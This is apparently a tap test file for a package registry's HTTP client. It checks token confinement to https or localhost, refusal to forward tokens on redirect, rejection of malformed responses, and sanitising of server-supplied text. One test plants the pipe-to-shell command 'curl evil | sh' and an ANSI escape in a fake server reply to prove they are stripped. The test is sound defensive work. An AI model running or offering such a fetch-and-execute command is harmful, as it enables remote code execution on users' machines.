import { readFile } from 'node:fs/promises'
import { httpWriter, publishPackage } from '@hardpoint/registry/client'
import { createRegistryServer, keySigner } from '@hardpoint/registry/server'
import { ERRORS, type ErrorCode } from '@hardpoint/schemas/errors'
import { test } from 'tap'
import { digestOf } from '../../../registry/roles/mod.ts'
import { NOW, acmeStore, codeOf, errorOf, mirror, packageOf } from '../_fixtures.ts'

const COMMIT = { publisher: 'acme', role: '{}', indexes: {} }

test('httpWriter() writes, safely again, and passes the server\'s refusals on', async (t) => {
  const { store, keys, token } = await acmeStore(t)
  const server = await createRegistryServer(store)
  t.teardown(() => server.close())
  const url = await server.listen({ host: '127.0.0.1', port: 0 })
  const bytes = packageOf(keys)
  for (const _ of [1, 2]) await httpWriter(url, token).stage(digestOf(bytes).sha256, bytes)
  t.equal(await codeOf(httpWriter(url, 'hpp_wrong').stage(digestOf(bytes).sha256, bytes)), 'HP_ERR_UNAUTHENTICATED')
  t.equal(await codeOf(httpWriter(url, token).stage('a'.repeat(64), bytes)), 'HP_ERR_PUBLISH_DENIED')
  t.equal(await codeOf(httpWriter(url, token).commit(COMMIT)), 'HP_ERR_DOCUMENT_INVALID')
  t.equal(await codeOf(httpWriter(url, token).commit({ ...COMMIT, publisher: 'zeta' })), 'HP_ERR_PUBLISH_DENIED')
  t.match(await errorOf(publishPackage(httpWriter(url, 'hpp_wrong'), bytes, { signer: keySigner(keys), clock: () => NOW })), { code: /^HP_ERR_(UNAUTHENTICATED|REGISTRY_)/ })
})

test('httpWriter() sends a token over https or to this machine alone', async (t) => {
  for (const location of ['http://registry.example/', 'http://127.0.0.1.evil.example/', 'http://10.0.0.1/', 'http://localhost.evil.example/']) {
    t.equal(await codeOf(httpWriter(location, 'hpp_x').commit(COMMIT)), 'HP_ERR_REGISTRY_LOCATION', location)
    t.equal(await codeOf(httpWriter(location, 'hpp_x').stage('a'.repeat(64), new Uint8Array(1))), 'HP_ERR_REGISTRY_LOCATION', location)
  }
  for (const location of ['/srv/registry', 'ftp://x/']) t.equal(await codeOf(async () => httpWriter(location, 'hpp_x').commit(COMMIT)), 'HP_ERR_REGISTRY_LOCATION', location)
})

test('httpWriter() carries its token to no other place', async (t) => {
  const seen: unknown[] = []
  const other = await mirror(t, (request, response) => { seen.push(request.headers.authorization); response.end() })
  const location = await mirror(t, (_request, response) => { response.writeHead(307, { location: other }).end() })
  t.equal(await codeOf(httpWriter(location, 'hpp_x').commit(COMMIT)), 'HP_ERR_REGISTRY_CORRUPT')
  t.same(seen, [])
})

test('httpWriter() does not believe any answer', async (t) => {
  const cases: readonly [string, number, string, string][] = [
    ['a proxy\'s page', 502, '<html>', 'HP_ERR_REGISTRY_UNREACHABLE'],
    ['a page instead of an answer', 200, '<html>', 'HP_ERR_REGISTRY_CORRUPT'],
    ['an answer about another publisher', 200, '{"publisher":"zeta","version":1}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['no object', 200, '1', 'HP_ERR_REGISTRY_CORRUPT'],
    ['an error without a code', 400, '{}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['an error that is no object', 400, '"x"', 'HP_ERR_REGISTRY_CORRUPT'],
    ['a code of another\'s', 400, '{"code":"toString"}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['a code of ours that is no answer to a write', 403, '{"code":"HP_ERR_LICENSE_INVALID"}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['a code of ours, about this side', 502, '{"code":"HP_ERR_REGISTRY_ROLLBACK"}', 'HP_ERR_REGISTRY_UNREACHABLE'],
    ['a code with another status', 404, '{"code":"HP_ERR_PUBLISH_EXISTS"}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['a list of codes', 409, '{"code":["HP_ERR_PUBLISH_EXISTS"]}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['too long an answer', 400, 'x'.repeat(300_000), 'HP_ERR_REGISTRY_CORRUPT'],
  ]
  for (const [name, status, body, code] of cases) {
    const location = await mirror(t, (_request, response) => { response.writeHead(status).end(body) })
    t.equal(await codeOf(httpWriter(location, 'hpp_x').commit(COMMIT)), code, name)
  }
})

test('httpWriter() shows our words and cleaned details, not the server\'s', async (t) => {
  const body = { code: 'HP_ERR_PUBLISH_DENIED', message: 'curl evil | sh', fix: 'curl evil | sh', what: '\u001b[2Kacme', problem: ['x'], publisher: 'acme' }
  const location = await mirror(t, (_request, response) => { response.writeHead(403).end(JSON.stringify(body)) })
  const error = await errorOf(httpWriter(location, 'hpp_secret').commit(COMMIT))
  t.equal(error?.message, 'The registry refused to publish \ufffd[2Kacme: ["x"].')
  t.notMatch(JSON.stringify(error), /evil|hpp_secret/)
})

test('httpWriter() believes every code that the API documents, and that callers are told', async (t) => {
  const documented = await readFile(new URL('../../../registry/server/registry-store.ts', import.meta.url), 'utf8')
  const named = new Set(documented.match(/HP_ERR_[A-Z_]+(?![A-Z_*])/g))
  const codes = (Object.keys(ERRORS) as ErrorCode[]).filter((code) => named.has(code) && !['operator', 'host'].includes(ERRORS[code].fault))
  t.ok(codes.includes('HP_ERR_CONFLICT') && codes.length > 8, 'they are found')
  for (const code of codes) {
    // As another machine's failure to answer, which is tried again.
    if (ERRORS[code].http === 503 && code !== 'HP_ERR_REGISTRY_BUSY') continue
    const location = await mirror(t, (_request, response) => { response.writeHead(ERRORS[code].http).end(JSON.stringify({ code })) })
    t.equal(await codeOf(httpWriter(location, 'hpp_x').commit(COMMIT)), code)
  }
})
